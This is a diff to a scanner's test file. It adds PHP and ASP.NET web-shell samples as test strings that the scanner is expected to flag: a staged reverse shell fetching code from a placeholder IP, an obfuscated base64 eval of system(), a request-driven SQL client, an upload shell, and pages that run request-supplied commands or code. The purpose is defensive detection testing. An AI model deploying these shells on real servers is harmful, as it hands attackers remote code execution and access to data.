@@ -65,6 +65,22 @@ describe('scan: droppers and loaders of session 21, samples of our own (not run)
       assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
     });
   }
+  it('malicious: a staged reverse shell reading its code from a socket', () => {
+    const src = `<?php $s = stream_socket_client('tcp://203.0.113.9:4444'); $n = unpack('Nn', fread($s, 4)); $code = ''; while (strlen($code) < $n['n']) { $code .= fread($s, $n['n'] - strlen($code)); } eval($code);`;
+    assert.equal(scan(src).verdict, 'malicious');
+  });
+  it('malicious: an SQL client whose server, account and query are the request\'s', () => {
+    const src = `<?php $l = mysqli_connect($_POST['h'], $_POST['u'], $_POST['p']); $r = mysqli_query($l, $_POST['q']); while ($row = mysqli_fetch_row($r)) echo htmlspecialchars(implode(' | ', $row)), "\n";`;
+    assert.equal(scan(src).verdict, 'malicious');
+  });
+  it('malicious: a name taken from string offsets in braces and called through $GLOBALS', () => {
+    const src = `<?php $k = 'sab64e_doc'; $f = $k{2} . $k{1} . $k{0} . $k{5}; $f .= $k{3} . $k{4} . $k{6} . $k{7} . $k{5} . $k{9} . $k{8} . $k{7} . $k{5}; eval($GLOBALS['f']('c3lzdGVtKCRfR0VUWyJjIl0pOw=='));`;
+    assert.equal(scan(src).verdict, 'malicious');
+  });
+  it('malicious: an upload kept under the client\'s name in a directory the request names, through a variable', () => {
+    const src = `<?php $dir = realpath($_GET['d'] ?? __DIR__); if (isset($_FILES['f'])) { $tmp = $_FILES['f']['tmp_name']; $n = basename($_FILES['f']['name']); move_uploaded_file($tmp, $dir . '/' . $n); }`;
+    assert.equal(scan(src).verdict, 'malicious');
+  });
   it('not malicious: a template engine writing compiled PHP to its cache and including it', () => {
     const src = `<?php class Tpl { function render($name, $vars) { $file = __DIR__ . '/cache/' . md5($name) . '.php'; if (!is_file($file)) file_put_contents($file, "<?php " . $this->compile($name)); extract($vars); include $file; } function compile($n) { return 'echo htmlspecialchars($title);'; } }`;
     assert.notEqual(scan(src).verdict, 'malicious');
@@ -85,6 +101,15 @@ describe('scan: JSP and ASP.NET shapes of session 21, samples of our own', () =>
       assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
     });
   }
+  it('malicious: ASP.NET shapes that start a command line or code from the request', () => {
+    const pages: [string, string][] = [
+      ['/www/w.aspx', `<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { var w = new System.Management.ManagementClass("Win32_Process"); var a = w.GetMethodParameters("Create"); a["CommandLine"] = Request.QueryString["q"]; w.InvokeMethod("Create", a, null); }</script>`],
+      ['/www/c.aspx', `<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { string line = "cmd.exe /c " + Request.Form["q"]; Native.Run(line); }</script>`],
+      ['/www/r.aspx', `<%@ Page Language="C#" %><script runat="server">async void Page_Load(object s, EventArgs e) { var v = await Microsoft.CodeAnalysis.CSharp.Scripting.CSharpScript.EvaluateAsync(Request.QueryString["e"]); Response.Write(v); }</script>`],
+      ['/www/a.aspx', `<%@ Page Language="C#" %><% var o = System.Reflection.Assembly.Load(Convert.FromBase64String("TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==")).CreateInstance("K"); Response.Write(o); %>`],
+    ];
+    for (const [path, src] of pages) assert.equal(scan(src, path).verdict, 'malicious', path);
+  });
   it('clean: EL reading parameters and calling a bean method by a fixed name', () => {
     assert.notEqual(scan('<p>${fn:escapeXml(param.q)} ${cart.total()} ${param["page"]}</p>', '/www/ok.jsp').verdict, 'malicious');
   });
